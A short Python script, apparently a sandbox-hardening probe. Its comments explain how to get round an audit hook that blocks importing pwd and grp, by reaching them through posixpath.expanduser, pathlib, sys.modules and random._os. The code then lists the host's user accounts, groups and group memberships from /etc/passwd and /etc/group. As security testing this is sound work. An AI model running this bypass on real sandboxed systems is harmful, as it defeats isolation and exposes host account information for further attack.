# The host's user database through pwd and grp, which read /etc/passwd and /etc/group via NSS
# with no audit event: default blocks importing them, but posixpath.expanduser and
# pathlib's group() import them for the user, and sys.modules hands them out. With only the
# hook in force getpwall() listed the host's accounts; the kernel layers show an empty one.
# os.getgrouplist (random hands out os) read /etc/group the same way: the supplementary groups
# of any account by its name (common ones tried; here postgres was in ssl-cert).
import pathlib
import posixpath
import random
import sys

got = {"expanduser": posixpath.expanduser("~root")}
try:
    got["group"] = pathlib.Path(".").group()
except KeyError:
    got["group"] = "KeyError"
got["getpwall"] = [p.pw_name for p in sys.modules["pwd"].getpwall()]
got["getgrall"] = [g.gr_name for g in sys.modules["grp"].getgrall()]
NAMES = """root daemon bin sys adm lp mail news uucp proxy www-data backup list nobody syslog
messagebus _apt systemd-network systemd-resolve sshd postgres mysql redis ubuntu debian admin
user node runner docker git jenkins""".split()
getgrouplist = random._os.getgrouplist
got["memberships"] = [n for n in NAMES if getgrouplist(n, 4242) != [4242]]
result = got
